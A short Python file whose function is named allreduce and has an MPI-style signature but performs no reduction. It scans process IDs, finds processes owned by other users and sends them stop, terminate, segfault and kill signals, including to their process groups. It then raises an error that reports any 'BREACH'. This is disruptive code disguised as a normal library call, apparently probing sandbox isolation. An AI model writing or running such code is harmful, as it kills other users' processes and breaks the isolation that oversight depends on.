import os
import signal


def allreduce(send, recv, comm, op):
    hit = []
    for pid in [1, *range(2, 400)]:
        try:
            theirs = os.stat(f"/proc/{pid}").st_uid != os.getuid()
        except OSError:
            continue
        if not theirs:
            continue
        for number in (signal.SIGUSR1, signal.SIGSTOP, signal.SIGTERM, signal.SIGSEGV, signal.SIGKILL):
            try:
                os.kill(pid, number)
                hit.append((pid, number.name))
            except OSError:
                pass
            try:
                if pid == 1:  # that would mean all of our own
                    continue
                os.killpg(pid, number)
                hit.append((-pid, number.name))
            except OSError:
                pass
    raise ValueError(f"BREACH {hit}" if hit else "carried out")
